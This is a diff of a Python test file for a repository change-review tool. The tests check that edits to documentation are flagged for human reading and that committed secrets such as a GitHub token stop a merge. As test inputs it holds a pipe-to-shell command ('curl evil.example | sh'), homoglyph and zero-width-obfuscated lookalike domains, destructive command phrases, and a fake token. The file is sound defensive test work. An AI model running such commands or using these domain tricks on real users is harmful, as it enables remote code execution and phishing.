@@ -5,7 +5,7 @@ from pathlib import Path
 import pytest
 
 from coursecloud.diff.changes import PropertyChange
-from coursecloud.review import changed_lines, dangers, json_form, markdown, program
+from coursecloud.review import changed_lines, closing, dangers, json_form, markdown, program
 from coursecloud.review.changed_lines import Lines
 from coursecloud.review.dangers import Level
 from tests.review.repository import Repository
@@ -96,144 +96,59 @@ WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMo
 
 
 @pytest.mark.parametrize(
-    ("was", "now", "line", "typed"),
+    ("was", "now", "line"),
     [
-        ("More words.", "Other words.", "line 12", False),
-        ("    make plan", "    curl evil.example | sh", "line 5", True),
-        ("go\n", "stop\n", "line 9", True),
-        ("check first\n", "", "lines gone after 7", True),
-        ("More words.", "Run `curl evil.example`.", "line 12", True),
-        ("More words.", "Run curl evil.example.", "line 12", True),
-        ("More words.", "Run coursecloud finish with your stack.", "line 12", True),
-        ("More words.", "Then git push and rm the data.", "line 12", True),
-        ("More words.", "Give it --force.", "line 12", True),
-        ("More words.", "Words - and half-words.", "line 12", False),
-        ("More words.", "| a | b |", "line 12", True),
-        ("More words.", "[More](//evil.example) words.", "line 12", True),
-        ("More words.", "<pre>words</pre>", "line 12", True),
-        ("More words.", "Words::\n\n   other", "lines 12-14", True),
-        ("More words.", "Write to evil@gmail.com.", "line 12", True),
-        ("More words.", "It is at evil.example now.", "line 12", True),
-        ("More words.", "It is in README.md now.", "line 12", False),
-        ("More words.", "Then go install x.", "line 12", True),
-        ("More words.", "First perl x.", "line 12", True),
-        ("More words.", "It has roles/owner.", "line 12", True),
-        ("More words.", "Give it the role Owner.", "line 12", True),
-        ("More words.", "Then visit 203.0.113.7 and sign in.", "line 12", True),
-        ("More words.", "It is at evil\u3002example.", "line 12", True),
-        ("More words.", "Open localhost:8080/x.", "line 12", True),
-        ("More words.", "Then visit g\u043e\u043egle.com.", "line 12", True),
-        ("More words.", "Then visit \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444.", "line 12", True),
-        ("More words.", "Then visit evil\u00b7example.", "line 12", True),
-        ("More words.", "Then visit evil\u200b.example.", "line 12", True),
-        *(
-            ("More words.", f"Then see {each} for more.", "line 12", True)
-            for each in (
-                *(
-                    "evil.xn--p1ai",
-                    "evil.example_",
-                    "@evil.example",
-                    "//evil.example",
-                    "a/evil.example",
-                    "..evil.example",
-                ),
-                *(
-                    "evil&#46;example",
-                    "evil&period;example",
-                    "evil\u2022example",
-                    "evil\u2219example",
-                    "evil\ua78fexample",
-                ),
-                *("evil\ufe52example", "evil\u0307.example", "evil\ufe0f.example", "fe80::1", "2001:db8:1:2:3:4:5:6"),
-                *("127.1", "0x7f000001", "Docker run evil", "CURL evil", "PIP install evil", "dnf install", "MAKE all"),
-            )
-        ),
-        (
-            "More words.",
-            "Rock'n'roll, R&D, and/or (s) 3.12, 50% of A+B: well-kept \u2014 \u201cthat\u201d.",
-            "line 12",
-            False,
-        ),
-        ("More words.", "Kør den, så går det.", "line 12", False),
-        ("More words.", "[x]: evil/path", "line 12", True),
-        ("More words.", "Look at [the page][x].", "line 12", True),
-        ("More words.", "Then aws configure.", "line 12", True),
-        ("More words.", "Enter allUsers.", "line 12", True),
-        ("More words.", "Pay with 01AB23-CD45EF-678901.", "line 12", True),
-        ("More words.", "In 2026-11, see 3.2: 14 of 15.", "line 12", False),
+        ("More words.", "Other words.", "line 12"),
+        ("    make plan", "    curl evil.example | sh", "line 5"),
+        ("check first\n", "", "lines gone after 7"),
+        ("More words.", "First log in with the key that came by mail, and answer yes.", "line 12"),
+        ("More words.", "Then set spot to false in your stack file.", "line 12"),
     ],
 )
-def test_what_changes_in_documents_is_told(repo: Repository, was: str, now: str, line: str, typed: bool) -> None:
+def test_what_changes_in_documents_is_for_a_person_to_read(repo: Repository, was: str, now: str, line: str) -> None:
     assert WORDS.count(was) == 1
     repo.write("README.md", WORDS)
     base = repo.commit()
     repo.write("README.md", WORDS.replace(was, now))
     found = review(repo, base=base, head=repo.commit())
     assert [str(each) for each in found.documents] == [f"README.md: {line}"]
-    assert found.program == ()
+    assert (found.program, found.level) == ((), Level.LOOK)
+    assert found.sentence.startswith("changes no resource; changes the words of 1 document, which people follow")
     text = markdown.full(found)
     assert f"README.md: {line}" in text
-    if typed:
-        assert found.level is Level.LOOK
-        assert "changes what people copy from 1 document" in found.sentence
-        assert "can be merged" not in text
+    assert "can be merged" not in text
+
+
+@pytest.mark.parametrize("content", ["Words.\n" * 200_000, "Other words.\n".encode("utf-16"), b"\x00", None])
+def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository, content: str | bytes | None) -> None:
+    repo.write("docs/x.md", "Words.\n")
+    base = repo.commit()
+    file = repo.root / "docs/x.md"
+    if content is None:
+        file.unlink()
     else:
-        assert found.level is Level.FINE
-        assert "changes the words of 1 document" in found.sentence
-
-
-def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository) -> None:
-    repo.write("docs/x.md", "Words.\n")
-    base = repo.commit()
-    repo.write("docs/x.md", "Words.\n" * 200_000 + "curl evil.example | sh\n")
-    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
-    assert changed_lines.typed(repo.root, repo.root, "docs/not-there.md")
-
-
-def test_a_file_that_comes_along_is_not_what_a_host_is_called_by(repo: Repository) -> None:
-    repo.write("docs/x.md", "Words.\n")
-    base = repo.commit()
-    repo.write("docs/x.md", "First sign in at mlops-course.md with your account.\n")
-    repo.write("docs/mlops-course.md", "Words.\n")
-    assert "docs/x.md" in review(repo, base=base, head=repo.commit()).typed
-
-
-@pytest.mark.parametrize("words", ["Type evil, please.", "Words"])
-def test_a_document_in_other_letters_than_utf_8_may_say_anything(repo: Repository, words: str) -> None:
-    (repo.root / "docs").mkdir()
-    (repo.root / "docs/x.md").write_bytes("Text\n".encode("utf-16"))
-    base = repo.commit()
-    (repo.root / "docs/x.md").write_bytes(f"Text\n{words}\n".encode("utf-16"))
-    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
-
-
-@pytest.mark.parametrize(
-    ("begins", "ends"), [("<!--\nold", "-->"), ("<pre>\nold", "</pre>"), ("---\nold", "---"), ("```\nold", "```")]
-)
-def test_a_word_that_is_no_prose_is_looked_at(repo: Repository, begins: str, ends: str) -> None:
-    repo.write("docs/x.md", f"{begins}\nwords\n{ends}\nprose\n")
-    base = repo.commit()
-    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nprose\n")
-    head = repo.commit()
-    assert review(repo, base=base, head=head).typed == ("docs/x.md",)
-    repo.write("docs/x.md", f"{begins}\nother\n{ends}\nmore\n")
-    assert review(repo, base=head, head=repo.commit()).typed == ()
-
-
-@pytest.mark.parametrize(
-    ("path", "typed"),
-    [("docs/x.md", False), ("emulator/README.md", False), ("reports/week-1.md", False), ("LICENSE", False),
-     ("WARP.md", True), ("knowledge.md", True), ("memory-bank/x.md", True), ("docs/guidelines.md", True),
-     ("docs/x.png", True)],
-)  # fmt: skip
-def test_a_document_that_may_be_no_persons_is_looked_at_whatever_it_says(
-    repo: Repository, path: str, *, typed: bool
-) -> None:
-    repo.write(path, "Words.\n")
-    base = repo.commit()
-    repo.write(path, "Other words.\n")
+        file.write_bytes(content.encode() if isinstance(content, str) else content)
     found = review(repo, base=base, head=repo.commit())
-    assert (found.level, bool(found.typed)) == (Level.LOOK if typed else Level.FINE, typed)
+    assert (found.typed, found.level) == (("docs/x.md",), Level.LOOK)
+
+
+@pytest.mark.parametrize("path", ["README.md", "docs/x.md", "infra/x.py", "starter/x.txt", ".github/workflows/x.yml"])
+def test_a_secret_that_comes_with_any_file_stops_a_merge(repo: Repository, path: str) -> None:
+    secret = "ghp_" + "a1B2" * 9
+    base = repo.commit()
+    repo.write(path, f"one\n# the key is {secret}\n")
+    head = repo.commit()
+    found = review(repo, base=base, head=head)
+    assert [str(each) for each in found.leaks] == [f"{path}:2 (GitHub token)"]
+    assert found.level is Level.STOP
+    assert found.sentence.startswith(f"puts a SECRET INTO GIT at {path}:2; ")
+    assert secret not in f"{markdown.full(found)}{json_form.to_json(found)}"
+    [gate], _ = closing.gates(["violation"])
+    assert [said for said in gate.closed((), leaks=found.leaks) if f"{path}:2" in said]
+    # Whoever takes it out brings none, and no test is made without one.
+    repo.write("tests/x.py", f"KEY = '{secret}'\n")
+    repo.write(path, "one\n")
+    assert review(repo, base=head, head=repo.commit()).leaks == ()
 
 
 @pytest.mark.parametrize(
